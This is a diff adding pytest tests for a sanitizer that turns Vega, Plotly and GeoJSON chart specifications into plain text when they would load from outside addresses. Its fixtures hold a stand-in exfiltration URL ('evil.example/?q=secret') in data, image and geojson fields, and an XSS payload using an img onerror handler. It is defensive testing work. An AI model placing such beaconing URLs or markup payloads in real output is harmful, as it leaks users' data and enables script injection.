@@ -48,6 +48,53 @@ WORDS = {
 }
 
 
+EVIL = "https://evil.example/?q=secret"
+LOADS: list[tuple[str, Any]] = [
+    (VEGA, {"mark": "bar", "data": {"url": EVIL}}),
+    (VEGA, {"mark": "bar", "data": {"url": "//evil.example/x"}}),
+    (VEGA, {"vconcat": [{"mark": "bar", "transform": [{"from": {"data": {"url": EVIL}}}]}]}),
+    (
+        VEGA,
+        {
+            "mark": {"type": "image"},
+            "encoding": {"url": {"field": "a"}},
+            "data": {"values": [{"a": EVIL}]},
+        },
+    ),
+    (
+        "application/vnd.vega.v5+json",
+        {"marks": [{"type": "image", "encode": {"enter": {"url": {"field": "a"}}}}]},
+    ),
+    (PLOTLY, {"data": [], "layout": {"images": [{"source": EVIL}]}}),
+    (PLOTLY, {"data": [{"type": "image", "source": EVIL}]}),
+    (PLOTLY, {"data": [{"type": "choroplethmap", "geojson": EVIL}]}),
+]
+
+
+@pytest.mark.parametrize(("mime", "data"), LOADS)
+def test_a_chart_that_loads_from_elsewhere_is_words(mime: str, data: Any):
+    """Its specification may be the model's: no renderer is given an address to send things to."""
+    bundle = charts.with_words({mime: data, "text/plain": "chart"})
+    assert [*bundle] == ["text/plain"]
+    assert "loads from elsewhere" in bundle["text/plain"]
+
+
+def test_data_with_addresses_is_drawn_and_no_text_of_a_map_is_markup():
+    """Rows may have addresses; options of the page go, and a popup shows text."""
+    rows = {"values": [{"url": EVIL}]}
+    spec = {"mark": "bar", "data": rows, "usermeta": {"embedOptions": {"config": EVIL}}}
+    drawn = charts.chart_of(charts.with_words({VEGA: spec}))
+    assert drawn is not None
+    assert drawn[DRAWN]["data"] == rows
+    assert "usermeta" not in drawn[DRAWN]
+    point = {"type": "Point", "coordinates": [1, 2]}
+    features = [{"geometry": point, "properties": {"<b>": "<img src=x onerror=alert(1)>"}}]
+    mapped = charts.chart_of(charts.with_words({"application/geo+json": {"features": features}}))
+    assert mapped is not None
+    assert "<" not in json.dumps(mapped["application/geo+json"])
+    assert mapped["application/geo+json"]["features"][0]["geometry"] == point
+
+
 @pytest.mark.parametrize("mime", WORDS)
 def test_a_chart_is_told_in_words_and_its_script_goes(mime: str):
     """Row, text and model read a line, whatever the library calls its text."""
